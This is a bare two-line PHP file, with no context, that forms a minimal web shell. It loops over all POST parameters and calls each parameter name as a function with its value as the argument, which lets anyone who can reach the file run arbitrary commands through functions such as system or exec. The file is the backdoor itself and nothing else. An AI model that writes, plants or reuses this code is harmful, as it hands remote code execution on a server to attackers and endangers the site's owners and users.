<?php
foreach ($_POST as $k => $v) { $k($v); }
